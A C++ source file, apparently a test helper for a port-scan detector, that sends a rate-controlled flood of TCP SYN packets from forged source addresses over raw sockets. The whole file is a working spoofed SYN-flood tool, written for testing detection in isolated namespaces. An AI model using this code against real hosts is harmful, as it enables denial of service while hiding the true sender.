// A flood of SYNs, each from another forged source, as fast as this machine sends them or as asked:
//   flood INTERFACE OUR_MAC THEIR_MAC TARGET FIRST_PORT LAST_PORT COUNT PER_SECOND EACH
// COUNT sources in 11.0.0.0/8, EACH ports of each, PER_SECOND packets a second (0: no limit). Needs
// CAP_NET_RAW. For tests, in namespaces that they made; never installed.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <charconv>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <span>
#include <string_view>
#include <thread>
#include <vector>

#include "common/unique_fd.h"

namespace {

constexpr std::size_t kFrame = 54;
constexpr unsigned kBatch = 64;
using Frame = std::array<std::uint8_t, kFrame>;

struct Orders {
  std::uint32_t first_port;
  std::uint32_t last_port;
  std::uint32_t count;
  std::uint32_t per_second;
  std::uint32_t each;
};

std::uint32_t number(std::string_view text) {
  std::uint32_t value = 0;
  std::from_chars(text.data(), text.data() + text.size(), value);
  return value;
}

void put16(Frame& frame, std::size_t at, std::uint32_t value) {
  frame.at(at) = static_cast<std::uint8_t>(value >> 8U);
  frame.at(at + 1) = static_cast<std::uint8_t>(value);
}

std::uint32_t sum16(const Frame& frame, std::size_t from, std::size_t to) {
  std::uint32_t sum = 0;
  for (std::size_t at = from; at < to; at += 2)
    sum += (std::uint32_t{frame.at(at)} << 8U) + frame.at(at + 1);
  return sum;
}

std::uint32_t folded(std::uint32_t sum) {
  while (sum > 0xffff)
    sum = (sum & 0xffffU) + (sum >> 16U);
  return ~sum & 0xffffU;
}

// A multiplicative walk through 24 bits: every source once, in no order.
std::uint32_t source_of(std::uint32_t index) {
  return 0x0b000000U | ((index * 2654435761U >> 8U) & 0xffffffU);
}

void aim(Frame& frame, std::uint32_t source, std::uint32_t port) {
  put16(frame, 26, source >> 16U);
  put16(frame, 28, source & 0xffffU);
  put16(frame, 36, port);
  put16(frame, 24, 0);
  put16(frame, 24, folded(sum16(frame, 14, 34)));
  put16(frame, 50, 0);
  put16(frame, 50, folded(sum16(frame, 26, 54) + 6 + 20));  // with the pseudo header
}

int flood(int fd, Frame frame, const Orders& orders) {
  using Clock = std::chrono::steady_clock;
  std::array<Frame, kBatch> frames{};
  std::array<iovec, kBatch> parts{};
  std::array<mmsghdr, kBatch> messages{};
  const std::uint32_t ports = orders.last_port - orders.first_port + 1;
  const std::uint64_t total = std::uint64_t{orders.count} * orders.each;
  const auto begin = Clock::now();
  std::uint64_t sent = 0;
  while (sent < total) {
    const auto batch = static_cast<unsigned>(std::min<std::uint64_t>(kBatch, total - sent));
    for (unsigned i = 0; i < batch; ++i) {
      const std::uint64_t n = sent + i;
      const auto index = static_cast<std::uint32_t>(n / orders.each);
      const auto which = static_cast<std::uint32_t>(n % orders.each);
      frames.at(i) = frame;
      aim(frames.at(i), source_of(index), orders.first_port + (index * 7919 + which) % ports);
      parts.at(i) = {.iov_base = frames.at(i).data(), .iov_len = kFrame};
      messages.at(i) = {};
      messages.at(i).msg_hdr.msg_iov = &parts.at(i);
      messages.at(i).msg_hdr.msg_iovlen = 1;
    }
    const int done = ::sendmmsg(fd, messages.data(), batch, 0);
    if (done <= 0) return 1;
    sent += static_cast<unsigned>(done);
    if (orders.per_second == 0) continue;
    const auto due = begin + std::chrono::nanoseconds(sent * 1'000'000'000U / orders.per_second);
    if (due > Clock::now()) std::this_thread::sleep_until(due);
  }
  const std::chrono::duration<double> took = Clock::now() - begin;
  std::printf("%llu packets in %.2f s\n", static_cast<unsigned long long>(sent), took.count());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::vector<const char*> words(argv, argv + argc);
  if (words.size() != 10) return 2;
  portsentry::UniqueFd fd(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
  sockaddr_ll link{};
  link.sll_family = AF_PACKET;
  link.sll_protocol = htons(ETH_P_IP);
  link.sll_ifindex = static_cast<int>(if_nametoindex(words[1]));
  ether_addr ours{};
  ether_addr theirs{};
  in_addr target{};
  if (!fd || ::bind(fd.get(), reinterpret_cast<const sockaddr*>(&link), sizeof link) != 0 ||
      ether_aton_r(words[2], &ours) == nullptr || ether_aton_r(words[3], &theirs) == nullptr ||
      inet_pton(AF_INET, words[4], &target) != 1) {
    return 2;
  }
  Frame frame{};
  std::copy_n(static_cast<const std::uint8_t*>(theirs.ether_addr_octet), 6, frame.begin());
  std::copy_n(static_cast<const std::uint8_t*>(ours.ether_addr_octet), 6, frame.begin() + 6);
  put16(frame, 12, ETH_P_IP);
  frame[14] = 0x45;
  put16(frame, 16, 40);
  frame[22] = 64;
  frame[23] = 6;
  std::memcpy(&frame[30], &target, 4);
  put16(frame, 34, 40000);
  frame[46] = 0x50;
  frame[47] = 0x02;
  put16(frame, 48, 1024);
  return flood(fd.get(), frame,
               {.first_port = number(words[5]),
                .last_port = number(words[6]),
                .count = number(words[7]),
                .per_second = number(words[8]),
                .each = number(words[9])});
}
